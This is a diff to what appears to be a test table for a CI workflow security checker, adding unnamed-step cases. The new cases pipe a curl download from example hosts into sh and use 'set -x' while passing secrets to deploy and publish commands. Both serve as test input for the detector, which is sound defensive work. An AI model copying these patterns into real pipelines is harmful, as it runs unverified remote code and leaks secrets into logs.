@@ -182,6 +182,22 @@ ATTACKS: Final = {
         job("steps:", "  - name: x", "    run: curl -L https://one.example/x | sh"),
         job("steps:", "  - name: x", "    run: curl -L https://two.example/x | sh"),
     ),
+    "another download in a step without a name": (
+        "unverified-download",
+        WORKFLOW,
+        job("steps:", "  - run: curl -L https://one.example/x | sh"),
+        job("steps:", "  - run: curl -L https://two.example/x | sh"),
+    ),
+    "a further step without a name": (
+        "debug-logging",
+        WORKFLOW,
+        job("steps:", "  - run: set -x; deploy --token ${{ secrets.ONE }}"),
+        job(
+            "steps:",
+            "  - run: set -x; deploy --token ${{ secrets.ONE }}",
+            "  - run: set -x; publish ${{ secrets.ONE }}",
+        ),
+    ),
     "another image": (
         "unpinned-images",
         WORKFLOW,
